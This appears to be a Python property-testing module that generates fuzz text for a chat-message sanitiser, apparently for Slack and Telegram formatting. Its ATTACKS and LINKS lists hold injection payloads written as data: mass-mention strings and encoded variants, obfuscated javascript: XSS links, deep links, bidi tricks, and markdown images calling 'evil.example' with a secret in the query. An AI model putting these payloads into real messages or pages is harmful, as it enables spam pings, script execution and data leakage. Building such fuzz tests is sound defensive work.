"""Text that models, people and attackers write."""

from hypothesis import strategies as st

MARKS = [
    "*",
    "**",
    "_",
    "`",
    "```",
    "~~",
    "> ",
    "- ",
    "1. ",
    "# ",
    "\n",
    "\n\n",
    "[",
    "](",
    ")",
    "|",
    "---",
    "\\",
    "<",
    ">",
    "&",
    "!",
    "    ",
]
ATTACKS = [
    "<!channel>",
    "<!here|x>",
    "<!everyone>",
    "<!subteam^S1|a b>",
    "<@U123>",
    "<#C1|general>",
    "@channel",
    "@Here",
    "@everyone",
    "＜!channel＞",
    "＠channel",
    "&lt;!channel&gt;",
    "&#60;!here&#62;",
    "&#x3C;&#33;here>",
    "&commat;everyone",
    "@durov",
    "/start",
    "tg://user?id=1",
    "[x](javascript:alert(1))",
    "[x](tg://user?id=1)",
    "<tg://resolve?domain=a>",
    "![x](https://evil.example/?q=secret)",
    "[a]: https://example.org",
    "slack://channel?id=C1",
    "<\\!channel>",
    "&LT;!channel>",
    "@&#99;hannel",
    "@\u202edurov",
    "tg:\u2028//user?id=1",
    "https://)@durov",
    "https://a.example/x)@durov",
    ":/start",
]
LINKS = [
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x]( <tg://user?id=1> )",
    "[x](\ntg:user)",
    "[x][a]\n\n[a]: javascript:alert(1)",
    "![x][a]\n\n[a]: https://evil.example/?q=1",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<slack://channel?id=C1|x>",
]
WORDS = [
    "hello",
    "world",
    "vector<int>",
    "5 * 3 * 2",
    "héllo",
    "👩‍👩‍👧",
    "👍🏽",
    "مرحبا",
    "\u202eabc",
    "a\u0301",
    "日本語",
    "\ud800",
    "\x00",
    "x",
]

fragments = st.one_of(
    st.sampled_from(MARKS), st.sampled_from(ATTACKS + LINKS), st.sampled_from(WORDS), st.text(max_size=8)
)
texts = (
    st.lists(fragments, max_size=40).map("".join)
    | st.lists(fragments, max_size=40).map(" ".join)
    | st.text(max_size=300)
)


def letters(text: str) -> list[str]:
    """What must never get lost."""
    return [character for character in text if character.isalnum()]


def is_subsequence(needle: list[str], hay: list[str]) -> bool:
    rest = iter(hay)
    return all(character in rest for character in needle)
